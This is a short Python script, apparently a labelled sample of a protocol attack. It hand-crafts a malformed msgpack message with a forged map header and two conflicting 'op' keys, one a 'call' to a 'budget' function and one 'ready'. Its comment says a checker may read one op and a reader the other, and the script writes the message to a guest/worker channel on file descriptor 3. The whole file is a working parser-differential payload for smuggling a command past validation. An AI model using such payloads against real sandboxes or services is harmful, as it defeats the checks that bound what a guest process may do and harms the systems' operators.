# class: proto
# Sends one map with two ops, of which a checker may read the first and a reader the second.
import os
from guest.worker.msgpack import pack
b=b"\x86"+pack({"op":"call","id":9,"function":"budget","arguments":{},"op2":0})[1:]+pack("x")+b"\xc0"
b=b.replace(pack("op2")+pack(0),pack("op")+pack("ready"))
os.write(3,len(b).to_bytes(4,"little")+b)
